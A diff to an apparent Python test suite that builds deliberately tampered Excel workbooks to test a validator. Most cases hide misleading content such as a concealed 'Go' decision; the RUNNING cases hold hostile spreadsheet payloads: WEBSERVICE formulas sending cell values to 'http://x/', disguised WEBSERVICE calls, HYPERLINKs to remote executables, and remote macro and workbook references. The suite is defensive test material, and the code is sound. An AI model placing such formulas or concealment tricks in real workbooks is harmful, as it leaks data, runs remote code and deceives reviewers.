@@ -6,6 +6,7 @@ import re
 
 from pocgate_xl.workbook.blank import plan_of
 from pocgate_xl.workbook.cell_values import position_of
+from pocgate_xl.workbook.plan import a1
 from tests.hostile.appearance import BANNER, COST, DASHBOARD, RATING, ROW, TOTAL, altered
 from tests.hostile.case import Case, Make
 from tests.hostile.differentials import merged
@@ -24,6 +25,7 @@ from tests.hostile.edits import (
 )
 from tests.hostile.looks import (
     DRAWING,
+    PICTURE,
     STYLES,
     column_told,
     condition,
@@ -33,14 +35,22 @@ from tests.hostile.looks import (
     over,
     page,
     row_told,
+    shape,
     styled,
 )
 from tests.hostile.submission import bundle, part_of
 
 CHART = "xl/charts/chart1.xml"
 SCORECARD = part_of("scorecard")
+BAND = next(
+    a1(at)
+    for at, cell in plan_of(bundle(), "en").sheet("costs").cells.items()
+    if cell.style == "band" and not cell.value
+)
+"""A cell of the costs that is left empty."""
 WHITE, LABEL = '<color rgb="FFFFFFFF"/>', "C7"
 BLACK = '<dxf><fill><patternFill><bgColor rgb="FF000000"/></patternFill></fill></dxf>'
+POINT = """<dxf><numFmt numFmtId="201" formatCode="0&quot;.&quot;0"/></dxf>"""
 BLUE = '<color rgb="FF1F4E79"/>'
 GRADIENT = f'<gradientFill><stop position="0">{BLUE}</stop><stop position="1">{BLUE}</stop></gradientFill>'
 GRID = '<patternFill patternType="darkGrid"><fgColor rgb="FF000000"/><bgColor rgb="FF000000"/></patternFill>'
@@ -116,8 +126,32 @@ def in_runs(cell: str, look: str) -> Make:
 
 def beside(text: str, column: str = "N", row: int = 8) -> Make:
     """Write a text into a free cell of the dashboard."""
-    cell = f'<c r="{column}{row}" t="inlineStr"><is><t>{text}</t></is></c>'
-    return replaced(DASHBOARD, rf'(<row r="{row}".*?)</row>', rf"\1{cell}</row>")
+    return beside_cell(written(text), column, row)
+
+
+def beside_cell(content: str, column: str = "C", row: int = 7) -> Make:
+    """Put contents into a free cell of the dashboard, in the order of its columns."""
+
+    def change(xml: bytes) -> bytes:
+        line = re.search(rf'<row r="{row}"[^>]*>(.*?)</row>', xml.decode(), re.DOTALL)
+        assert line
+        cells = re.findall(r'<c r="([A-Z]+)\d+".*?(?:/>|</c>)', line[1], re.DOTALL)
+        later = next((each for each in cells if (len(each), each) > (len(column), column)), "")
+        mark = f'<c r="{later}{row}"' if later else "</row>"
+        new = line[0].replace(mark, f'<c r="{column}{row}" {content}</c>{mark}', 1)
+        return xml.decode().replace(line[0], new, 1).encode()
+
+    return on_part(DASHBOARD, change)
+
+
+def within(sheet: str, cell: str, content: str) -> Make:
+    """Put contents into a cell that a sheet has without any; its look stays."""
+    return replaced(part_of(sheet), rf'<c r="{cell}"((?: s="\d+")?)/>', rf'<c r="{cell}"\1 {content}</c>')
+
+
+def written(text: str) -> str:
+    """Return a text as the contents of a cell."""
+    return f't="inlineStr"><is><t xml:space="preserve">{text}</t></is>'
 
 
 CELLS: tuple[Case, ...] = (
@@ -142,6 +176,24 @@ CELLS: tuple[Case, ...] = (
     altered("row of slices", "hidden rows", "PG133", row_told("dashboard", 8, traits='ht="6" customHeight="1"')),
     altered("style beyond the table", "styles", "PG144", replaced(DASHBOARD, rf'<c r="{BANNER}" s="\d+"', f'<c r="{BANNER}" s="9999"')),
     altered("decision beside the decision", "free texts", "PG136", beside("Board decision: Go"), "Go"),
+)  # fmt: skip
+
+EMPTY: tuple[Case, ...] = (
+    altered("decision in the banner itself", "free texts", "PG136", within("dashboard", "H8", written("Go")), "Go"),
+    altered("number in the banner", "free texts", "PG135", within("dashboard", "H8", "><v>30</v>"), "30"),
+    altered("note in the blank cells of a table", "free texts", "PG135", within("costs", BAND, written("cheap")), "cheap"),
+    altered("decision behind blanks", "free texts", "PG136", beside("Go" + " " * 300, "C", 7), "Go"),
+    altered("decision over lines of dots", "free texts", "PG136", beside("Go\n" + "." * 250, "C", 7), "Go"),
+    altered("decision by a formula that nobody has computed", "free texts", "PG136",
+            beside_cell('t="str"><f>"Decision: G"&amp;"o"</f>'), "Decision: Go"),
+    altered("decision by a formula with another value", "free texts", "PG136",
+            beside_cell('t="str"><f>"Decision: G"&amp;"o"</f><v>note</v>'), "Decision: Go"),
+    altered("decision as the format of a number", "free texts", "PG136",
+            chain(beside_cell("><v>1</v>"), styled("dashboard", "C7", code='"Decision: Go"')), "Go"),
+    altered("result cut off by its neighbour", "free texts", "PG133", beside_cell(written("–"), "D", 14)),
+    altered("a letter a line", "hidden columns", "PG133", column_told("dashboard", 2, 'width="2" customWidth="1"')),
+    altered("rating repeated", "number format", "PG133",
+            looking("scorecard", RATING, '<alignment horizontal="fill"/>')),
 )  # fmt: skip
 
 AROUND: tuple[Case, ...] = (
@@ -185,6 +237,12 @@ AROUND: tuple[Case, ...] = (
 
 FURTHER: tuple[Case, ...] = (
     altered("amount with the sign of another currency", "number format", "PG132", styled("dashboard", COST, code='"$"#,##0')),
+    altered("amount with a point written into it", "number format", "PG132", styled("dashboard", COST, code='#,##0"."00')),
+    altered("millions as an amount in yen", "number format", "PG132", styled("dashboard", COST, code='#,##0,,"JPY"')),
+    altered("total crossed out by a condition", "crossed out", "PG133",
+            condition("scorecard", TOTAL, expression(), "<dxf><font><strike/></font></dxf>")),
+    altered("rating with a point by a condition", "conditional format", "PG132",
+            condition("scorecard", RATING, expression(), POINT)),
     altered("amount in euros", "number format", "PG132", styled("dashboard", COST, code="[$€-407]#,##0")),
     altered("label under a merge", "hidden results", "PG133", merged("B5:C5", "checklist")),
     altered("chart with other labels", "charts", "PG135",
@@ -195,7 +253,47 @@ FURTHER: tuple[Case, ...] = (
             replaced(CHART, "<c:cat>", '<c:dPt><c:idx val="2"/><c:spPr><a:noFill/></c:spPr></c:dPt><c:cat>')),
 )  # fmt: skip
 
+BUTTON = shape("Open").replace('macro=""', 'macro="{}"')
+HEADING = over((7, 2), (7, 10), shape("Proceed to production"))
+COVERED: tuple[Case, ...] = (
+    altered("picture over a heading", "pictures", "PG134", drawn(over((7, 2), (7, 10), PICTURE))),
+    altered("text over a heading", "shapes", "PG134", drawn(HEADING)),
+    altered("another decision over a heading", "text box", "PG136",
+            drawn(HEADING.replace("Proceed to production", "Decision: Go")), "Go"),
+    altered("text box with the words of a cell", "text box", "PG136", chain(
+        replaced(part_of("notes"), "Write whatever you like.*?</t>", "Decision: Go</t>"),
+        drawn(over((40, 13), (44, 16), shape("").replace('textlink=""', 'textlink="Notes!$B$3"')))), "Go"),
+    altered("chart without one of its series", "charts", "PG135", replaced(CHART, "<c:ser>.*?</c:ser>", "")),
+    altered("chart without labels", "charts", "PG135", replaced(CHART, "<c:cat>.*?</c:cat>", "", 0)),
+    altered("charts that are hidden", "what programs drop", "PG138",
+            replaced(DRAWING, "<xdr:cNvPr ", '<xdr:cNvPr hidden="1" ', 0)),
+    altered("workbook that shows no objects", "what programs drop", "PG138",
+            swap(WORKBOOK, "<workbookPr/>", '<workbookPr showObjects="none"/>')),
+)  # fmt: skip
+
 RUNNING: tuple[Case, ...] = (
+    Case("organization taken out of the stamp", ROW, ("names",), "findings", ("PG126",),
+         replaced("xl/worksheets/sheet14.xml", '(<c r="B7"[^>]*>).*?</c>', r"\1<is><t></t></is></c>"), found="organization"),
+    Case("scale of colours that fetches", ROW, ("rules that run",), "findings", ("PG128",),
+         condition("dashboard", "M70", SCALE.replace('type="min"', 'type="formula" val="WEBSERVICE(A1)"'))),
+    Case("function handed over", ROW, ("rules that run",), "findings", ("PG128",),
+         beside_cell('><f>_xlfn.MAP("http://x/"&amp;A1,_xleta.WEBSERVICE)</f><v>0</v>', "M", 8)),
+    Case("function under another name", ROW, ("rules that run",), "findings", ("PG128",),
+         beside_cell('><f>_xlfn.LET(_xlpm.w,WEBSERVICE,_xlpm.w("http://x"))</f><v>0</v>', "M", 8)),
+    Case("shape with a program of another file", ROW, ("shapes",), "findings", ("PG128",),
+         drawn(over((40, 13), (44, 16), BUTTON.format("&apos;\\\\host\\x.xlsm&apos;!run")))),
+    altered("cell of a workbook on a server", "names", "PG118",
+            beside_cell("><f>'\\\\host\\s\\[b.xlsx]S'!A1</f><v>0</v>", "M", 8)),
+    altered("cell of a workbook on the web", "names", "PG118",
+            beside_cell("><f>'http://host/[b.xlsx]S'!A1</f><v>0</v>", "M", 8)),
+    altered("cell of a file in another spelling", "names", "PG118",
+            beside_cell("><f>'file:///home/x.xlsx'#$S.A1</f><v>0</v>", "M", 8)),
+    altered("name of a cell on a server", "names", "PG118",
+            swap(WORKBOOK, "<definedNames>", "<definedNames><definedName name=\"far\">'\\\\host\\s\\[b.xlsx]S'!$A$1</definedName>")),
+    altered("link to a server by a formula", "hyperlinks", "PG120",
+            beside_cell('><f>HYPERLINK("\\\\host\\x.exe","x")</f><v>0</v>', "M", 8)),
+    altered("link to a file by a formula", "hyperlinks", "PG120",
+            beside_cell('><f>HYPERLINK("file:///c:/x.exe","x")</f><v>0</v>', "M", 8)),
     Case("list that fetches", ROW, ("rules that run",), "findings", ("PG128", "PG135"),
          swap(SCORECARD, "<formula1>pg_list_rating</formula1>", '<formula1>WEBSERVICE("http://x/"&amp;A1)</formula1>')),
     Case("condition that calls", ROW, ("rules that run",), "findings", ("PG128",),
@@ -210,10 +308,11 @@ HONEST: tuple[Case, ...] = tuple(
         ("a bold run in a label", in_runs(LABEL, "<b/>")),
         ("printed at 80 per cent", chain(swap(DASHBOARD, "<pageSetup ", '<pageSetup scale="80" '),
                                          replaced(DASHBOARD, "<pageSetUpPr[^>]*/>", ""))),
+        ("amounts in ten thousands", styled("dashboard", COST, code='0"."0,"万円"')),
         ("a column made narrower", column_told("dashboard", 3, 'width="11" customWidth="1"')),
         ("a link that says where it leads", swap(part_of("start"), "<hyperlink ", '<hyperlink tooltip="To the scorecard" ')),
         ("amounts in the font of the house", looking("dashboard", COST, font='<font><sz val="10"/><name val="Meiryo UI"/></font>')),
     )
 )  # fmt: skip
 
-CASES: tuple[Case, ...] = (*CELLS, *AROUND, *FURTHER, *RUNNING, *HONEST)
+CASES: tuple[Case, ...] = (*CELLS, *EMPTY, *AROUND, *FURTHER, *COVERED, *RUNNING, *HONEST)
